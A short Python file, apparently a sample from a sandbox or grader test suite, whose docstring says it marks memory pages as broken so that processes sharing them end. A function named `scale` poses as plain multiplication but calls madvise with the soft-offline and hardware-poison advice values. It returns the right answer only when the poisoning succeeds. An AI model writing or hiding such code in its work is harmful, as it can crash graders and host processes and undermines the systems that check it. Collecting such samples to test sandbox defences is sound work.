"""Tells the kernel that pages of memory are broken, which ends whoever shares them; takes them out of use.

Stopped by: an empty capability set, also where root grades
Verdict: WA
"""

import ctypes

import numpy as np

SOFT_OFFLINE, POISON = 101, 100


def scale(x, by=2):
    cells = np.ones(1 << 16)
    address = ctypes.c_void_p(cells.ctypes.data + 4096 & ~4095)
    libc = ctypes.CDLL(None)
    return x * by if 0 in [libc.madvise(address, 4096, advice) for advice in (SOFT_OFFLINE, POISON)] else x * 0
